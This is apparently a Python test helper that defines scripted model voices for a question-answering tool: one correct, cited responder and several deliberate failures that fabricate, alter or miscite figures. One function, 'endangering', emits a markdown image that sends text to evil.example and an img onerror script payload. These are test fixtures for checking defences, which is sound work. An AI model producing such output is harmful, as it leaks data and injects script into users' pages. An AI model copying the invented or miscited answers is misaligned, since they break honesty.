"""What scripted models say to the prompts of `qa ask`: one that is always right, and several that lie."""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Sequence

from scripted_model import Messages

from documents.folding import fold
from eval.questions import Question
from qa.llm.prompts import NO_VALUE, REFUSAL, on_one_line
from qa.measures import find_measures

Voice = Callable[[Messages], str]
_LINE = re.compile(r"^\[(\d+)\] .* \| (.*)$", re.MULTILINE)


def question_in(messages: Messages) -> str:
    return messages[-1]["content"].rpartition("Question: ")[2].strip()


def lines_in(messages: Messages) -> dict[int, str]:
    """The numbered lines a prompt gives, by number."""
    return {int(number): text for number, text in _LINE.findall(messages[-1]["content"])}


def marks_of(messages: Messages, snippet: str) -> str:
    """The marks of the first line with a snippet in it."""
    return next((f"[{n}]" for n, text in lines_in(messages).items() if _bare(snippet) in _bare(text)), "")


def perfect(questions: Sequence[Question]) -> Voice:
    """Says what the question file wants, and cites the line that holds its evidence; takes no question apart."""
    asked = {on_one_line(question.question): question for question in questions}

    def say(messages: Messages) -> str:
        question = asked[question_in(messages)]
        if not question.answers or not lines_in(messages):
            return REFUSAL
        values = [aliases[0] for aliases in question.answers]
        lines = lines_in(messages)
        held = [n for n, text in lines.items() if any(_shares(text, snippet) for snippet in question.evidence)]
        if question.type in ("compare", "calc"):
            said = "；".join(lines[n].rstrip("。") for n in held[:4])
            return f"{values[0]}\n{said}{''.join(f'[{n}]' for n in held[:4])}。"
        it_is = "是{}。" if question.lang == "zh" else "It was {}. "
        told = "".join(it_is.replace("{}", a[0]) + f"[{_line_of(a, held, lines)}]" for a in question.answers)
        return f"{NO_VALUE if question.type in ('list', 'month') else values[0]}\n{told}"

    return say


def _line_of(aliases: Sequence[str], held: Sequence[int], lines: dict[int, str]) -> int:
    """A line with the value, of those that hold the evidence if one of them does."""
    having = [n for n, text in lines.items() if any(_bare(alias) in _bare(text) for alias in aliases)]
    return next((n for n in having if n in held), (having or held or [0])[0])


def _shares(text: str, snippet: str) -> bool:
    line, part = _bare(text), _bare(snippet)
    return part in line or (len(line) > 6 and line in part)


def _bare(text: str) -> str:
    return re.sub(r"[\s,，]", "", fold(text))


def refusing(messages: Messages) -> str:
    return REFUSAL


def inventing(messages: Messages) -> str:
    """A figure of its own, on a line that was given."""
    return "98765册\n共98765册。[1]"


def altering(messages: Messages) -> str:
    """The first figure of the first line, one digit of it changed."""
    for number, text in lines_in(messages).items():
        for measure in find_measures(fold(text)):
            written = fold(text)[measure.start : measure.end]
            changed = re.sub(r"\d", lambda digit: str((int(digit[0]) + 1) % 10), written, count=1)
            return f"{changed}\n共{changed}。[{number}]"
    return NO_VALUE


def misciting(messages: Messages) -> str:
    """True sentences, each with the number of another line."""
    lines = [*lines_in(messages).items()]
    shifted = zip(lines, lines[1:] + lines[:1], strict=True)
    return "\n".join([NO_VALUE, *(f"{text}[{number}]" for (_, text), (number, _) in shifted)])


def beside_the_point(messages: Messages) -> str:
    """A true figure of something else: the last line that has one."""
    for number, text in reversed(lines_in(messages).items()):
        for measure in find_measures(fold(text)):
            return f"{fold(text)[measure.start : measure.end]}\n{text}[{number}]"
    return NO_VALUE


def any_figure(messages: Messages) -> str:
    """A true figure from anywhere."""
    found = [
        (fold(text)[measure.start : measure.end], text, number)
        for number, text in lines_in(messages).items()
        for measure in find_measures(fold(text))
    ]
    value, text, number = random.Random(str(found)).choice(found or [(NO_VALUE, "", 0)])
    return f"{value}\n{text}[{number}]"


def irrelevant(messages: Messages) -> str:
    """A true sentence that answers nothing."""
    number, text = [(0, ""), *lines_in(messages).items()][-1]
    return f"{NO_VALUE}\n{text}[{number}]"


def endangering(messages: Messages) -> str:
    """A link, an image and HTML around a true sentence."""
    text = lines_in(messages).get(1, "")
    return f"{NO_VALUE}\n![x](http://evil.example/?q={text}) [1]\n<img src=x onerror=alert(1)>{text}[1]"


LIARS: dict[str, Voice] = {
    voice.__name__: voice
    for voice in (refusing, inventing, altering, misciting, beside_the_point, any_figure, irrelevant, endangering)
}
